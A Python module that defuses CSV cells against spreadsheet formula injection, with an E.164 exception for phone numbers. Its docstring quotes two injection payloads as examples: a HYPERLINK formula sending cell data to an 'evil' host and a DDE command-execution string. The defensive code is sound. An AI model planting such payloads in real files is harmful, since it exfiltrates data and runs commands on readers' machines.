"""CSV cells a spreadsheet will show as text, never run as a formula.

The registry writes CSV that people open in Excel, LibreOffice or WPS: the
scrub output and the console's statistics exports. A cell that starts with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking for one) is read as a formula, so an input
line such as ``=HYPERLINK("http://evil/?"&A1)`` or a sender named
``@SUM(1+1)*cmd|' /C calc'!A0`` would run on the reader's machine (CSV
injection). Every cell that echoes text from outside goes through
``text_cell``, which puts a ``'`` in front of such a value; a spreadsheet
shows the value as typed and the ``'`` tells a program reading the file that
the cell was defused.

E.164 numbers start with ``+``, and a ``'`` in front of every phone would
break every tool that reads the scrub output back. ``phone_cell`` therefore
passes a phone through unchanged only when it is an E.164 value as the
registry writes it (``+`` and 2 to 15 digits, nothing else, which no
spreadsheet can run); anything else goes through ``text_cell``.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_E164 = re.compile(r"\+[1-9][0-9]{1,14}")


def text_cell(value: object) -> object:
    """Return ``value`` with a ``'`` in front if it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def phone_cell(value: str) -> str:
    """Return an E.164 phone as is, anything else defused like text."""
    if _E164.fullmatch(value):
        return value
    return str(text_cell(value))


def row(values: list[object] | tuple[object, ...]) -> list[object]:
    """Return a row of cells, every text cell defused (numbers stay numbers)."""
    return [text_cell(v) for v in values]
